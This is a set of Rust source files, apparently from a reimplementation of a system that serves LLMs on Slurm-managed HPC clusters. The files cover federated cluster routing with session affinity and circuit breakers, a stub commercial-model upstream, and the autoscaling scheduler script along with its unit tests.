    }

    #[test]
    fn sticky_session_spills_when_warm_cluster_breaks() {
        let reg = setup(FederationConfig {
            breaker_failures: 1,
            breaker_cooldown: Duration::from_secs(60),
            ..Default::default()
        });
        let ua = mock_cluster_proxy("emmy", false);
        let ub = mock_cluster_proxy("grete", false);
        let a = reg.register("emmy", None, &ua.addr().to_string());
        let b = reg.register("grete", None, &ub.addr().to_string());
        a.record_probe_ok(HashMap::from([("llama".to_string(), health(1, 0))]));
        b.record_probe_ok(HashMap::from([("llama".to_string(), health(1, 0))]));
        let router = FederatedRouter::new(reg.clone());
        let server = router.serve("127.0.0.1:0", 4).unwrap();
        let mut client = Client::new(&server.url());
        let resp = client.send(&chat_request("session-breaker-gamma", 1)).unwrap();
        assert_eq!(resp.headers.get("x-cluster").map(String::as_str), Some("emmy"));
        // The warm cluster's breaker opens: the session must fail over.
        a.record_request_failure();
        assert!(a.breaker_open());
        let plan = router.route_plan(&chat_request("session-breaker-gamma", 2)).unwrap();
        assert_eq!(plan.candidates.len(), 1);
        assert_eq!(plan.candidates[0].cluster.name, "grete");
        assert!(plan
            .excluded
            .iter()
            .any(|e| e.cluster.name == "emmy" && e.reason == ReasonCode::BreakerOpen));
        let resp = client.send(&chat_request("session-breaker-gamma", 2)).unwrap();
        assert_eq!(
            resp.headers.get("x-cluster").map(String::as_str),
            Some("grete"),
            "sticky session follows availability over affinity"
        );
        // ...and the pin moves with it.
        let plan = router.route_plan(&chat_request("session-breaker-gamma", 3)).unwrap();
        assert_eq!(plan.sticky_cluster.as_deref(), Some("grete"));
    }

    #[test]
    fn catalog_placement_gates_spillover() {
        use crate::config::{ClusterSpec, ModelSpec, ServiceSpec, StackConfig};
        use crate::federation::catalog::ModelCatalog;
        let reg = setup(FederationConfig::default());
        // llama is pinned to emmy; emmy is dead. The router must fail the
        // request rather than spill to a cluster that never hosts llama.
        let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let dead_addr = dead.local_addr().unwrap().to_string();
        drop(dead);
        let ok = mock_cluster_proxy("grete", false);
        let a = reg.register("emmy", None, &dead_addr);
        let b = reg.register("grete", None, &ok.addr().to_string());
        a.record_probe_ok(ready_map());
        b.record_probe_ok(ready_map());
        let config = StackConfig {
            services: vec![ServiceSpec {
                name: "llama".into(),
                model: "llama3-70b".into(),
                gpus: 1,
                min_instances: 1,
                max_instances: 2,
                target_concurrency: 4.0,
            }],
            clusters: vec![ClusterSpec::named("emmy", 4), ClusterSpec::named("grete", 4)],
            models: vec![ModelSpec {
                name: "llama".into(),
                context_window: 0,
                owned_by: "meta".into(),
                clusters: vec!["emmy".into()],
            }],
            ..StackConfig::default()
        };
        let router = FederatedRouter::new(reg.clone());
        router.set_catalog(ModelCatalog::from_config(&config));
        let plan = router.route_plan(&chat_request("session-catalog", 1)).unwrap();
        assert_eq!(plan.candidates.len(), 1);
        assert_eq!(plan.candidates[0].cluster.name, "emmy");
        assert!(plan
            .excluded
            .iter()
            .any(|e| e.cluster.name == "grete" && e.reason == ReasonCode::NotInCatalog));
        let server = router.serve("127.0.0.1:0", 2).unwrap();
        let mut client = Client::new(&server.url());
        let resp = client.send(&chat_request("session-catalog", 1)).unwrap();
        assert_eq!(resp.status, 502, "no spill to a non-hosting cluster");
        assert_eq!(reg.get("grete").unwrap().requests.load(Ordering::Relaxed), 0);
        // Status now carries the catalog's model list.
        let status = router.status_json();
        let models = status.get("models").unwrap();
        assert_eq!(models.str_field("object"), Some("list"));
    }
}
