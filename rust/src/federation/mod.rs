//! Multi-cluster federation: one model namespace served by N HPC clusters.
//!
//! The paper binds the cloud VM to a single HPC cluster over one SSH
//! channel (§5.4). This layer removes that ceiling: each cluster keeps its
//! own full HPC-side stack (Slurm controller, scheduler, cloud interface,
//! sshd) *and* its own [`crate::hpc_proxy::HpcProxy`] SSH channel on the
//! web-server side; a federation router above them picks a cluster per
//! request.
//!
//! ```text
//!                 [gateway]  (one route per model)
//!                     │
//!                     ▼
//!             [federated router] ──────────────┐
//!              │ pick: availability →          │ spillover /
//!              │       health → least-loaded   │ retry-on-next
//!              ▼                               ▼
//!        [hpc proxy A]                   [hpc proxy B]      ... N
//!              │ SSH                           │ SSH
//!              ▼                               ▼
//!        [cluster A: slurm+sched+llm]   [cluster B: ...]
//! ```
//!
//! * [`registry`] — [`ClusterRegistry`]: the set of named clusters, each
//!   with live health/capacity state and a per-cluster circuit breaker.
//! * [`prober`] — [`HealthProber`]: periodically scrapes every cluster's
//!   routing-table + demand stats (including prefix-cache hit rates)
//!   through its SSH exec channel (`saia probe`).
//! * [`catalog`] — [`ModelCatalog`]: the heterogeneous model catalog —
//!   per-model backend, context window, attribution and cluster
//!   placement; drives spillover eligibility and `GET /v1/models`.
//! * [`affinity`] — [`AffinityMap`]: bounded session → cluster map keyed
//!   by the prompt's chained-FNV opening-block hash.
//! * [`router`] — [`FederatedRouter`]: builds a [`RoutePlan`] per request
//!   (catalog placement → availability tiers → cache-affinity-weighted
//!   load, with reason codes), forwards to the best candidate, and spills
//!   over when the pick is saturated, draining, unreachable, or its
//!   breaker has tripped.

mod affinity;
mod catalog;
mod prober;
mod registry;
mod router;

pub use affinity::AffinityMap;
pub use catalog::{ModelCatalog, ModelEntry};
pub use prober::{probe_all, HealthProber};
pub use registry::{Cluster, ClusterRegistry, ClusterStatus, ServiceHealth};
pub use router::{
    ExcludedCluster, FederatedRouter, ReasonCode, RouteCandidate, RoutePlan,
};
