//! External proxy (§5.8): the optional wrapper route for commercial
//! models (GPT-4 via Azure in the paper).
//!
//! Since paid access is rate-limited and user-group-restricted, the
//! gateway route carrying this upstream gets strict limits. The upstream
//! itself is a local stub with configurable latency — DESIGN.md
//! §Substitutions.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use crate::util::http::{Handler, Request, Response, Server};
use crate::util::json::Json;

/// A stub commercial LLM endpoint (OpenAI-compatible).
pub struct ExternalUpstream {
    pub model: String,
    /// Simulated round-trip to the external provider.
    pub latency: Duration,
    pub requests: AtomicU64,
}

impl ExternalUpstream {
    pub fn start(model: &str, latency: Duration) -> std::io::Result<(Arc<ExternalUpstream>, Server)> {
        let upstream = Arc::new(ExternalUpstream {
            model: model.to_string(),
            latency,
            requests: AtomicU64::new(0),
        });
        let this = upstream.clone();
        let handler: Handler = Arc::new(move |req| this.handle(req));
        let server = Server::serve("127.0.0.1:0", "external-llm", 4, handler)?;
        Ok((upstream, server))
    }

    fn handle(&self, req: &Request) -> Response {
        if req.method != "POST" || req.path != "/v1/chat/completions" {
            return Response::error(404, "not found");
        }
        self.requests.fetch_add(1, Ordering::Relaxed);
        if !self.latency.is_zero() {
            std::thread::sleep(self.latency);
        }
        let body = Json::obj()
            .set("object", "chat.completion")
            .set("model", self.model.as_str())
            .set(
                "choices",
                vec![Json::obj()
                    .set("index", 0u64)
                    .set(
                        "message",
                        Json::obj().set("role", "assistant").set(
                            "content",
                            "As a commercial large language model, I am but a stub here.",
                        ),
                    )
                    .set("finish_reason", "stop")],
            );
        Response::json(200, &body)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::http::Client;

    #[test]
    fn responds_like_openai() {
        let (up, server) = ExternalUpstream::start("gpt-4", Duration::ZERO).unwrap();
        let mut client = Client::new(&server.url());
        let resp = client
            .post_json(
                "/v1/chat/completions",
                &Json::obj().set("messages", Vec::<Json>::new()),
            )
            .unwrap();
        assert_eq!(resp.status, 200);
        let v = resp.json().unwrap();
        assert_eq!(v.str_field("model"), Some("gpt-4"));
        assert_eq!(up.requests.load(Ordering::Relaxed), 1);
        assert_eq!(client.get("/other").unwrap().status, 404);
    }

    #[test]
    fn latency_is_applied() {
        let (_up, server) = ExternalUpstream::start("gpt-4", Duration::from_millis(30)).unwrap();
        let mut client = Client::new(&server.url());
        let t0 = std::time::Instant::now();
        client
            .post_json("/v1/chat/completions", &Json::obj())
            .unwrap();
        assert!(t0.elapsed() >= Duration::from_millis(29));
    }
}
