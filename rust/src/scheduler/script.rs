//! The scheduler script (§5.6) — the paper's core coordination loop.
//!
//! Runs on every keep-alive ping from the HPC Proxy (§5.5). Each run:
//!
//! 1. takes the **lock file** (a second concurrent run is skipped);
//! 2. drives a Slurm scheduling cycle and drains its events;
//! 3. reacts to job starts (allocate port, launch the service instance)
//!    and job ends (drop from the routing table, stop the instance);
//! 4. **probes** newly started instances until they are ready before
//!    marking them routable (cold start: model loading takes minutes);
//! 5. samples demand and **autoscales**: submits new service jobs when the
//!    average concurrency over the window exceeds the threshold, and lets
//!    excess jobs expire (or cancels them, per policy) when it falls;
//! 6. **renews** jobs approaching their walltime so the service survives
//!    Slurm's batch semantics (the "continuously replaced or extended"
//!    requirement from §4).
//!
//! Failure recovery (§7.1.1): NODE_FAIL/timeout ends flow through the same
//! reconciliation — the next run resubmits to reach the desired count.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, TryLockError};

use super::config::{ScaleDownPolicy, ServiceConfig};
use super::demand::DemandTracker;
use super::routing::{InstanceEntry, RoutingTable};
use crate::slurm::{JobId, JobSpec, SlurmEvent, Slurmctld};
use crate::util::clock::{Clock, Millis};
use crate::util::fairness::Priority;
use crate::util::rng::Rng;

/// Launches / probes / stops the actual service instance behind a Slurm
/// job. The coordinator's implementation spawns an in-process LLM server
/// with a simulated model-load delay; tests use mocks.
pub trait InstanceLauncher: Send + Sync {
    /// Called when Slurm starts the job on `node` with the allocated port.
    fn launch(&self, service: &ServiceConfig, job: JobId, node: &str, port: u16);

    /// Readiness probe: `Some(addr)` once the instance can serve requests.
    /// Called repeatedly until ready (paper: "periodically probes the newly
    /// submitted jobs until they are ready").
    fn probe(&self, job: JobId) -> Option<SocketAddr>;

    /// Liveness probe for an already-ready instance.
    fn healthy(&self, job: JobId) -> bool {
        let _ = job;
        true
    }

    /// Graceful drain: Slurm sent a preemption notice or walltime
    /// warning, so the instance must stop admitting and stream out its
    /// in-flight work within the grace budget. Default: no-op (mock
    /// launchers and non-elastic deployments).
    fn drain(&self, job: JobId) {
        let _ = job;
    }

    /// Called when the job ended for any reason.
    fn stop(&self, job: JobId);
}

/// Port range the scheduler draws from (paper: random port, checked
/// against the routing table because Slurm has no network virtualization).
const PORT_RANGE: std::ops::Range<u16> = 30000..50000;

/// Counters for observability + tests.
#[derive(Default)]
pub struct SchedulerStats {
    pub runs: AtomicU64,
    pub skipped_runs: AtomicU64,
    pub submitted: AtomicU64,
    pub scale_ups: AtomicU64,
    pub scale_downs: AtomicU64,
    pub renewals: AtomicU64,
    pub recovered_failures: AtomicU64,
    /// Preemption notices received from Slurm (grace-time drains begun).
    pub preemption_notices: AtomicU64,
    /// Walltime warnings received (proactive drains begun).
    pub walltime_warnings: AtomicU64,
    /// Jobs Slurm preempted and requeued; the instance relaunches when
    /// the same job id starts again.
    pub requeues: AtomicU64,
    /// Submissions walltime-sized to a ctld-estimated backfill gap.
    pub gap_jobs: AtomicU64,
    /// Reconcile passes that held warm-standby capacity (rising demand).
    pub standby_ups: AtomicU64,
}

/// The scheduler script state.
pub struct ServiceScheduler {
    services: Vec<ServiceConfig>,
    ctld: Arc<Mutex<Slurmctld>>,
    routing: Arc<RoutingTable>,
    demand: Arc<DemandTracker>,
    clock: Arc<dyn Clock>,
    launcher: Arc<dyn InstanceLauncher>,
    /// The lock file: one scheduler run at a time.
    lockfile: Mutex<()>,
    inner: Mutex<Inner>,
    pub stats: SchedulerStats,
}

struct Inner {
    rng: Rng,
    /// Jobs we submitted, by service. Includes pending (not yet started).
    jobs: HashMap<JobId, JobMeta>,
    /// Ports allocated to active jobs (global uniqueness, per the paper's
    /// routing-table check; pending jobs hold ports before they appear in
    /// the routing table).
    ports: HashMap<JobId, u16>,
}

#[derive(Debug, Clone)]
struct JobMeta {
    service: String,
    /// Job is ready in the routing table.
    ready: bool,
    /// Marked for scale-down: do not renew.
    draining: bool,
    /// Slurm is evicting the job (preemption notice / walltime warning):
    /// a drain that scale-up must *not* reclaim — the kill is coming
    /// whether we want the capacity or not.
    evicted: bool,
    /// The walltime actually submitted — gap-shaped jobs run shorter
    /// than the service's configured `time_limit`, and renewal math must
    /// use the real deadline.
    time_limit: Millis,
}

impl ServiceScheduler {
    pub fn new(
        services: Vec<ServiceConfig>,
        ctld: Arc<Mutex<Slurmctld>>,
        routing: Arc<RoutingTable>,
        demand: Arc<DemandTracker>,
        clock: Arc<dyn Clock>,
        launcher: Arc<dyn InstanceLauncher>,
        seed: u64,
    ) -> Arc<ServiceScheduler> {
        Arc::new(ServiceScheduler {
            services,
            ctld,
            routing,
            demand,
            clock,
            launcher,
            lockfile: Mutex::new(()),
            inner: Mutex::new(Inner {
                rng: Rng::new(seed),
                jobs: HashMap::new(),
                ports: HashMap::new(),
            }),
            stats: SchedulerStats::default(),
        })
    }

    pub fn services(&self) -> &[ServiceConfig] {
        &self.services
    }

    /// One scheduling run. Invoked from the keep-alive hook; concurrent
    /// invocations are skipped via the lock file (paper §5.6).
    pub fn run(&self) {
        let _guard = match self.lockfile.try_lock() {
            Ok(g) => g,
            Err(TryLockError::WouldBlock) => {
                self.stats.skipped_runs.fetch_add(1, Ordering::Relaxed);
                return;
            }
            Err(TryLockError::Poisoned(e)) => e.into_inner(),
        };
        self.stats.runs.fetch_add(1, Ordering::Relaxed);
        let now = self.clock.now_ms();

        // 1. Drive Slurm and collect its events.
        let events = {
            let mut ctld = self.ctld.lock().unwrap();
            ctld.tick();
            ctld.drain_events()
        };
        self.apply_events(&events);

        // 2. Probe unready instances; health-check ready ones.
        self.probe_instances();

        // 3. Demand sampling + autoscaling reconciliation per service.
        for svc in &self.services {
            self.demand.sample(&svc.name, now);
            self.reconcile(svc, now);
        }
    }

    fn apply_events(&self, events: &[SlurmEvent]) {
        for event in events {
            match event {
                SlurmEvent::JobStarted { job, node } => {
                    let inner = self.inner.lock().unwrap();
                    let Some(meta) = inner.jobs.get(job).cloned() else {
                        continue; // not ours (background batch job)
                    };
                    let port = inner.ports.get(job).copied().unwrap_or(0);
                    drop(inner);
                    let svc = self
                        .services
                        .iter()
                        .find(|s| s.name == meta.service)
                        .expect("job for unknown service");
                    self.routing.insert(InstanceEntry {
                        service: meta.service.clone(),
                        job: *job,
                        node: node.clone(),
                        port,
                        addr: None,
                        ready: false,
                    });
                    self.launcher.launch(svc, *job, node, port);
                }
                SlurmEvent::JobEnded { job, state, .. } => {
                    let mut inner = self.inner.lock().unwrap();
                    if !inner.jobs.contains_key(job) {
                        continue; // not ours
                    }
                    if matches!(state, crate::slurm::JobStateTag::Preempted) {
                        // The ctld requeued the job under the same id at
                        // the front of the queue: keep its meta and port
                        // so the relaunch on the next `JobStarted` is
                        // seamless, but tear down the instance now.
                        if let Some(meta) = inner.jobs.get_mut(job) {
                            meta.ready = false;
                            meta.draining = false;
                            meta.evicted = false;
                        }
                        drop(inner);
                        self.routing.remove_job(*job);
                        self.launcher.stop(*job);
                        self.stats.requeues.fetch_add(1, Ordering::Relaxed);
                        continue;
                    }
                    inner.jobs.remove(job);
                    inner.ports.remove(job);
                    drop(inner);
                    self.routing.remove_job(*job);
                    self.launcher.stop(*job);
                    if matches!(state, crate::slurm::JobStateTag::NodeFail) {
                        self.stats.recovered_failures.fetch_add(1, Ordering::Relaxed);
                    }
                }
                SlurmEvent::PreemptionNotice { job, .. }
                | SlurmEvent::WalltimeWarning { job, .. } => {
                    // Grace window opens: stop admitting, stream out what
                    // is in flight, let the launcher requeue the rest.
                    let mut inner = self.inner.lock().unwrap();
                    let Some(meta) = inner.jobs.get_mut(job) else {
                        continue; // not ours
                    };
                    meta.draining = true;
                    meta.evicted = true;
                    drop(inner);
                    self.routing.mark_draining(*job);
                    self.launcher.drain(*job);
                    if matches!(event, SlurmEvent::PreemptionNotice { .. }) {
                        self.stats.preemption_notices.fetch_add(1, Ordering::Relaxed);
                    } else {
                        self.stats.walltime_warnings.fetch_add(1, Ordering::Relaxed);
                    }
                }
                SlurmEvent::NodeDown { .. } | SlurmEvent::NodeRestored { .. } => {}
            }
        }
    }

    fn probe_instances(&self) {
        let entries = self.routing.snapshot();
        for entry in entries {
            let is_ours = {
                let inner = self.inner.lock().unwrap();
                inner.jobs.contains_key(&entry.job)
            };
            if !is_ours {
                continue;
            }
            if !entry.ready {
                if let Some(addr) = self.launcher.probe(entry.job) {
                    self.routing.mark_ready(entry.job, addr);
                    let mut inner = self.inner.lock().unwrap();
                    if let Some(meta) = inner.jobs.get_mut(&entry.job) {
                        meta.ready = true;
                    }
                }
            } else if !self.launcher.healthy(entry.job) {
                // Failed health check: pull out of rotation; if it stays
                // unhealthy the job will be cancelled by reconciliation.
                self.routing.mark_unready(entry.job);
                let mut inner = self.inner.lock().unwrap();
                if let Some(meta) = inner.jobs.get_mut(&entry.job) {
                    meta.ready = false;
                }
            }
        }
    }

    fn reconcile(&self, svc: &ServiceConfig, now: Millis) {
        // Priority-aware demand: guaranteed (interactive) load must be
        // covered; sheddable (batch) load is discounted by the service's
        // batch_demand_weight — under overload the admission controller
        // sheds it instead of autoscaling chasing it.
        let guaranteed =
            self.demand
                .avg_concurrency_class(&svc.name, Priority::Interactive, now);
        let sheddable = self
            .demand
            .avg_concurrency_class(&svc.name, Priority::Batch, now);
        let base = svc.desired_instances_classed(guaranteed, sheddable);
        // Warm standby: while demand is ramping (positive slope EMA) keep
        // extra instances hot on top of the load-driven count, so bursts
        // and preemption storms do not pay the multi-minute cold start.
        let standby = if svc.standby > 0 && self.demand.slope(&svc.name) > 0.0 {
            svc.standby
        } else {
            0
        };
        let desired = (base + standby).min(svc.max_instances.max(base));
        if desired > base {
            self.stats.standby_ups.fetch_add(1, Ordering::Relaxed);
        }

        // Count active (non-draining) jobs for this service.
        let (active, draining): (Vec<JobId>, Vec<JobId>) = {
            let inner = self.inner.lock().unwrap();
            let mut active = Vec::new();
            let mut draining = Vec::new();
            for (id, meta) in &inner.jobs {
                if meta.service == svc.name {
                    if meta.draining {
                        draining.push(*id);
                    } else {
                        active.push(*id);
                    }
                }
            }
            (active, draining)
        };
        let active_count = active.len() as u32;

        if active_count < desired {
            self.stats.scale_ups.fetch_add(1, Ordering::Relaxed);
            // First, un-drain any draining jobs (cheapest capacity) —
            // except evicted ones, which Slurm will kill regardless.
            let mut needed = desired - active_count;
            let mut reclaimed: Vec<JobId> = Vec::new();
            {
                let mut inner = self.inner.lock().unwrap();
                for id in draining {
                    if needed == 0 {
                        break;
                    }
                    if let Some(meta) = inner.jobs.get_mut(&id) {
                        if meta.evicted {
                            continue;
                        }
                        meta.draining = false;
                        reclaimed.push(id);
                        needed -= 1;
                    }
                }
            }
            for id in reclaimed {
                self.routing.clear_draining(id);
            }
            for _ in 0..needed {
                self.submit_instance(svc);
            }
        } else if active_count > desired {
            self.stats.scale_downs.fetch_add(1, Ordering::Relaxed);
            let excess = (active_count - desired) as usize;
            // Prefer retiring unready instances first (no service impact).
            let mut candidates = active.clone();
            candidates.sort_by_key(|id| {
                let inner = self.inner.lock().unwrap();
                let ready = inner.jobs.get(id).map(|m| m.ready).unwrap_or(false);
                (ready, *id) // unready first, then oldest
            });
            for id in candidates.into_iter().take(excess) {
                match svc.scale_down {
                    ScaleDownPolicy::Expire => {
                        let mut inner = self.inner.lock().unwrap();
                        if let Some(meta) = inner.jobs.get_mut(&id) {
                            meta.draining = true;
                        }
                    }
                    ScaleDownPolicy::Cancel => {
                        {
                            let mut ctld = self.ctld.lock().unwrap();
                            ctld.scancel(id);
                        }
                        // Clean up immediately — leaving the entry until
                        // the next run would route requests to a dead
                        // instance. The JobEnded event next run is a
                        // no-op (job already forgotten).
                        let mut inner = self.inner.lock().unwrap();
                        inner.jobs.remove(&id);
                        inner.ports.remove(&id);
                        drop(inner);
                        self.routing.remove_job(id);
                        self.launcher.stop(id);
                    }
                }
            }
        }

        // Renewals: replace running jobs nearing walltime (only if still
        // desired, i.e. not draining).
        let renew_ids: Vec<JobId> = {
            let ctld = self.ctld.lock().unwrap();
            let inner = self.inner.lock().unwrap();
            active
                .iter()
                .filter(|id| {
                    // Jobs cancelled by scale-down above are gone already.
                    let Some(meta) = inner.jobs.get(*id) else {
                        return false;
                    };
                    if meta.draining {
                        return false;
                    }
                    // Gap-shaped jobs too short to renew rely on the
                    // walltime-warning drain + resubmission instead.
                    if meta.time_limit <= svc.renew_margin {
                        return false;
                    }
                    match ctld.job(**id).map(|j| j.state.clone()) {
                        Some(crate::slurm::JobState::Running { since, .. }) => {
                            // The job's *actual* walltime, not the
                            // service default — gap jobs run shorter.
                            let deadline = since + meta.time_limit;
                            deadline.saturating_sub(now) <= svc.renew_margin
                        }
                        _ => false,
                    }
                })
                .copied()
                .collect()
        };
        for old in renew_ids {
            self.stats.renewals.fetch_add(1, Ordering::Relaxed);
            // Submit the replacement first, then mark the old job draining
            // so it expires at walltime without being resubmitted.
            self.submit_instance(svc);
            let mut inner = self.inner.lock().unwrap();
            if let Some(meta) = inner.jobs.get_mut(&old) {
                meta.draining = true;
            }
        }
    }

    fn submit_instance(&self, svc: &ServiceConfig) {
        let port = {
            let mut inner = self.inner.lock().unwrap();
            Self::alloc_port(&mut inner, &self.routing)
        };
        let Some(port) = port else {
            log::error!(target: "scheduler", "port space exhausted for {}", svc.name);
            return;
        };
        let name = format!("svc-{}", svc.name);
        let base = if svc.grace > 0 {
            JobSpec::preemptible_service(&name, svc.gpus, svc.time_limit, svc.grace)
        } else {
            JobSpec::service(&name, svc.gpus, svc.time_limit)
        };
        let mut spec = JobSpec {
            comment: format!("service={} port={}", svc.name, port),
            ..base
        };
        if svc.gap_walltime > 0 {
            // Gap harvesting: ask the ctld how long this allocation could
            // run before colliding with the blocked head-of-queue job's
            // backfill reservation, and size the walltime to that window
            // (minus a renew_margin allowance, since placement happens a
            // scheduler run after estimation). With no gap constraining
            // the node, fall back to the short default walltime so the
            // job stays backfillable next to batch work.
            let gap = {
                let ctld = self.ctld.lock().unwrap();
                ctld.estimate_gap(&spec.resources)
            };
            spec.time_limit = match gap {
                Some(g) if g > svc.renew_margin.saturating_mul(2) => {
                    self.stats.gap_jobs.fetch_add(1, Ordering::Relaxed);
                    (g - svc.renew_margin).min(svc.time_limit)
                }
                _ => svc.gap_walltime.min(svc.time_limit),
            };
        }
        let time_limit = spec.time_limit;
        let job = {
            let mut ctld = self.ctld.lock().unwrap();
            ctld.sbatch(spec)
        };
        let mut inner = self.inner.lock().unwrap();
        inner.jobs.insert(
            job,
            JobMeta {
                service: svc.name.clone(),
                ready: false,
                draining: false,
                evicted: false,
                time_limit,
            },
        );
        inner.ports.insert(job, port);
        self.stats.submitted.fetch_add(1, Ordering::Relaxed);
    }

    /// Random port with a routing-table (+ pending jobs) conflict check —
    /// the paper's exact algorithm.
    fn alloc_port(inner: &mut Inner, routing: &RoutingTable) -> Option<u16> {
        for _ in 0..256 {
            let candidate = PORT_RANGE.start
                + inner
                    .rng
                    .below((PORT_RANGE.end - PORT_RANGE.start) as u64) as u16;
            let in_pending = inner.ports.values().any(|p| *p == candidate);
            // Global uniqueness: the node isn't known until the job starts.
            let in_table = !routing
                .snapshot()
                .iter()
                .all(|e| e.port != candidate);
            if !in_pending && !in_table {
                return Some(candidate);
            }
        }
        None
    }

    /// Jobs currently tracked for a service (active + draining) — test
    /// introspection.
    pub fn tracked_jobs(&self, service: &str) -> Vec<JobId> {
        let inner = self.inner.lock().unwrap();
        inner
            .jobs
            .iter()
            .filter(|(_, m)| m.service == service)
            .map(|(id, _)| *id)
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::clock::SimClock;
    use std::collections::HashSet;
    use std::sync::atomic::AtomicU64;

    /// Mock launcher: instances become ready after a configurable number of
    /// probes (simulating model-load time).
    struct MockLauncher {
        probes_until_ready: u64,
        probe_counts: Mutex<HashMap<JobId, u64>>,
        launched: Mutex<Vec<(JobId, String, u16)>>,
        stopped: Mutex<Vec<JobId>>,
        drained: Mutex<Vec<JobId>>,
        next_port: AtomicU64,
        unhealthy: Mutex<HashSet<JobId>>,
    }

    impl MockLauncher {
        fn new(probes_until_ready: u64) -> Arc<MockLauncher> {
            Arc::new(MockLauncher {
                probes_until_ready,
                probe_counts: Mutex::new(HashMap::new()),
                launched: Mutex::new(Vec::new()),
                stopped: Mutex::new(Vec::new()),
                drained: Mutex::new(Vec::new()),
                next_port: AtomicU64::new(20000),
                unhealthy: Mutex::new(HashSet::new()),
            })
        }
    }

    impl InstanceLauncher for MockLauncher {
        fn launch(&self, _svc: &ServiceConfig, job: JobId, node: &str, port: u16) {
            self.launched
                .lock()
                .unwrap()
                .push((job, node.to_string(), port));
        }

        fn probe(&self, job: JobId) -> Option<SocketAddr> {
            let mut counts = self.probe_counts.lock().unwrap();
            let count = counts.entry(job).or_insert(0);
            *count += 1;
            if *count >= self.probes_until_ready {
                let port = self.next_port.fetch_add(1, Ordering::Relaxed) as u16;
                Some(SocketAddr::from(([127, 0, 0, 1], port)))
            } else {
                None
            }
        }

        fn healthy(&self, job: JobId) -> bool {
            !self.unhealthy.lock().unwrap().contains(&job)
        }

        fn drain(&self, job: JobId) {
            self.drained.lock().unwrap().push(job);
        }

        fn stop(&self, job: JobId) {
            self.stopped.lock().unwrap().push(job);
        }
    }

    fn setup(
        services: Vec<ServiceConfig>,
        nodes: usize,
        probes_until_ready: u64,
    ) -> (
        Arc<SimClock>,
        Arc<Mutex<Slurmctld>>,
        Arc<RoutingTable>,
        Arc<DemandTracker>,
        Arc<MockLauncher>,
        Arc<ServiceScheduler>,
    ) {
        let clock = SimClock::new();
        let ctld = Arc::new(Mutex::new(Slurmctld::with_gpu_nodes(clock.clone(), nodes)));
        let routing = Arc::new(RoutingTable::new());
        let demand = Arc::new(DemandTracker::new(60_000));
        let launcher = MockLauncher::new(probes_until_ready);
        let scheduler = ServiceScheduler::new(
            services,
            ctld.clone(),
            routing.clone(),
            demand.clone(),
            clock.clone(),
            launcher.clone(),
            42,
        );
        (clock, ctld, routing, demand, launcher, scheduler)
    }

    fn svc(name: &str) -> ServiceConfig {
        ServiceConfig {
            time_limit: 600_000,
            renew_margin: 60_000,
            ..ServiceConfig::new(name, "test-model", 2)
        }
    }

    /// Run n scheduler passes, advancing the clock between them.
    fn run_cycles(scheduler: &ServiceScheduler, clock: &SimClock, n: usize, step_ms: u64) {
        for _ in 0..n {
            scheduler.run();
            clock.advance_by(step_ms);
        }
    }

    #[test]
    fn maintains_min_instances() {
        let (clock, _ctld, routing, _demand, _launcher, scheduler) =
            setup(vec![svc("llama")], 2, 2);
        run_cycles(&scheduler, &clock, 5, 5_000);
        let (total, ready) = routing.counts("llama");
        assert_eq!(total, 1, "one instance maintained");
        assert_eq!(ready, 1, "instance became ready after probes");
    }

    #[test]
    fn readiness_gates_routing() {
        let (clock, _ctld, routing, _demand, _launcher, scheduler) =
            setup(vec![svc("llama")], 2, 4);
        // After 2 runs the job started but needs 4 probes to be ready.
        run_cycles(&scheduler, &clock, 2, 5_000);
        let (total, ready) = routing.counts("llama");
        assert_eq!(total, 1);
        assert_eq!(ready, 0, "not ready until probes succeed");
        run_cycles(&scheduler, &clock, 4, 5_000);
        assert_eq!(routing.counts("llama").1, 1);
    }

    #[test]
    fn scales_up_under_load_and_down_when_idle() {
        let mut config = svc("llama");
        config.max_instances = 3;
        config.target_concurrency = 4.0;
        config.scale_down = ScaleDownPolicy::Cancel;
        let (clock, _ctld, routing, demand, _launcher, scheduler) =
            setup(vec![config], 4, 1);
        run_cycles(&scheduler, &clock, 3, 5_000);
        assert_eq!(routing.counts("llama").0, 1);

        // Sustained load: 10 concurrent requests held across the window.
        for _ in 0..10 {
            demand.begin("llama", clock.now_ms());
        }
        run_cycles(&scheduler, &clock, 20, 5_000);
        let (total, _) = routing.counts("llama");
        assert_eq!(total, 3, "scaled to ceil(10/4)=3");

        // Load drains; scale back to min.
        for _ in 0..10 {
            demand.end("llama", clock.now_ms());
        }
        run_cycles(&scheduler, &clock, 30, 5_000);
        assert_eq!(routing.counts("llama").0, 1, "scaled down to min");
        assert!(scheduler.stats.scale_downs.load(Ordering::Relaxed) > 0);
    }

    #[test]
    fn recovers_from_node_failure() {
        let (clock, ctld, routing, _demand, _launcher, scheduler) =
            setup(vec![svc("llama")], 2, 1);
        run_cycles(&scheduler, &clock, 3, 5_000);
        let entry = &routing.entries_for("llama")[0];
        let node = entry.node.clone();
        {
            let mut c = ctld.lock().unwrap();
            c.fail_node(&node);
        }
        // Next runs: job death observed, replacement submitted + started
        // on the surviving node.
        run_cycles(&scheduler, &clock, 4, 5_000);
        let entries = routing.entries_for("llama");
        assert_eq!(entries.len(), 1, "replacement instance");
        assert_ne!(entries[0].node, node);
        assert!(entries[0].ready);
        assert_eq!(scheduler.stats.recovered_failures.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn renews_jobs_before_walltime() {
        let (clock, ctld, routing, _demand, _launcher, scheduler) =
            setup(vec![svc("llama")], 2, 1);
        run_cycles(&scheduler, &clock, 3, 5_000);
        let old_job = routing.entries_for("llama")[0].job;
        // Advance close to walltime (600s limit, 60s margin).
        clock.advance_to(560_000);
        run_cycles(&scheduler, &clock, 4, 5_000);
        assert!(scheduler.stats.renewals.load(Ordering::Relaxed) >= 1);
        // Old job expires at walltime; replacement keeps serving.
        clock.advance_to(620_000);
        run_cycles(&scheduler, &clock, 3, 5_000);
        let entries = routing.entries_for("llama");
        assert_eq!(entries.len(), 1);
        assert_ne!(entries[0].job, old_job, "replacement took over");
        assert!(entries[0].ready);
        {
            let c = ctld.lock().unwrap();
            assert!(!c.job(old_job).unwrap().state.is_active());
        }
    }

    #[test]
    fn lockfile_skips_concurrent_runs() {
